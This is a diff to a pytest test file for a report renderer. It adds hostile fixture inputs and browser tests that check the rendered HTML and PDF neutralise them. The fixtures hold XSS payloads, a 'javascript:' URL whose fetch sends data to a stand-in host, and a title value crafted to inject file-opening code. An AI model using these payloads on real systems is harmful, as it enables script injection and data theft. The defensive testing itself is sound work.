@@ -10,7 +10,9 @@ import time
 from pathlib import Path
 
 import pytest
+from browser import DevTools
 from conftest import SEED, staging, write
+from pypdf import PdfReader
 
 from parley.params import parse_parameters
 from parley.render import _fingerprint
@@ -145,13 +147,15 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
     write(
         articles,
         "markup.md",
-        "---\ntitle: <script>document.title='pwned'</script>Markup\n---\n"
+        "---\ntitle: <script>document.title='pwned'</script>Markup\n"
+        "url: \"javascript:document.title='pwned';fetch('https://example.net/stolen')\"\n---\n"
         "A soldier was captured <img src=x onerror=\"document.title='pwned'\">.\n\n"
         "<script>document.title = 'pwned';</script> Prisoners were exchanged.",
     )
+    write(articles, "linked.md", "---\ntitle: Linked\nurl: https://example.org/talks\n---\nTalks went on.")
     title = 'Report"""; open(\'' + str(root / "injected") + "', 'w'); x = \"\"\"<i>"
     result = parley(
-        "render", "-q", "--to", "html", "--out", str(root / "out"),
+        "render", "-q", "--out", str(root / "out"),
         "-p", f"articles={articles}", "-p", f"title={title}", "-p", "as_of=2026-11-25",
     )  # fmt: skip
     assert result.returncode == 0, result.stderr
@@ -194,6 +198,49 @@ def test_article_markup_never_runs_in_a_browser(hostile: Path, tmp_path: Path) -
     assert "<script" not in dom and '<img src="x"' not in dom
     assert "&lt;script&gt;document.title = 'pwned';&lt;/script&gt; Prisoners were exchanged." in dom
     assert "&lt;script&gt;document.title='pwned'&lt;/script&gt;Markup" in dom
+
+
+def test_only_http_urls_become_links_in_html_and_pdf(hostile: Path) -> None:
+    html = (hostile / "out" / "report.html").read_text(encoding="utf-8")
+    assert "href='javascript" not in html and 'href="javascript' not in html
+    assert "<td class='url'>javascript:document.title=&#x27;pwned&#x27;" in html
+    assert "<a href='https://example.org/talks'>" in html
+    pdf = PdfReader(hostile / "out" / "report.pdf")
+    uris = [
+        str(a.get_object().get("/A", {}).get("/URI")) for page in pdf.pages for a in page.get("/Annots") or []
+    ]
+    assert "https://example.org/talks" in uris and not any("javascript" in u for u in uris)
+
+
+@pytest.mark.skipif(
+    CHROMIUM is None, reason="Debian's chromium is not installed (make system-deps installs it)"
+)
+def test_clicking_a_javascript_url_runs_nothing(hostile: Path, tmp_path: Path) -> None:
+    assert CHROMIUM is not None
+    browser = DevTools(CHROMIUM, tmp_path / "profile")
+    where = (
+        "(text => {{ const td = [...document.querySelectorAll('table.sources td.url')]"
+        ".find(td => td.textContent.startsWith(text)); td.scrollIntoView({{block: 'center'}});"
+        " const r = (td.querySelector('a') || td).getBoundingClientRect();"
+        " return {{x: r.left + Math.min(r.width, 40) / 2, y: r.top + r.height / 2,"
+        " links: td.querySelectorAll('a').length}}; }})({text!r})"
+    )
+    try:
+        session = browser.open(hostile / "out" / "report.html", width=1100, height=900)
+        bad = browser.evaluate(where.format(text="javascript:"), session)
+        browser.click(bad["x"], bad["y"], session)
+        title = browser.evaluate("document.title", session)
+        # The control: the same click on an http link does follow it (and is refused offline).
+        good = browser.evaluate(where.format(text="https://example.org/talks"), session)
+        browser.click(good["x"], good["y"], session)
+        browser.wait_for("Network.loadingFailed")
+    finally:
+        browser.close()
+    assert bad["links"] == 0 and good["links"] == 1
+    assert "pwned" not in title
+    requests = [e["request"]["url"] for e in browser.of("Network.requestWillBeSent")]
+    assert "https://example.org/talks" in requests
+    assert not any("example.net" in url for url in requests)
 
 
 @pytest.fixture
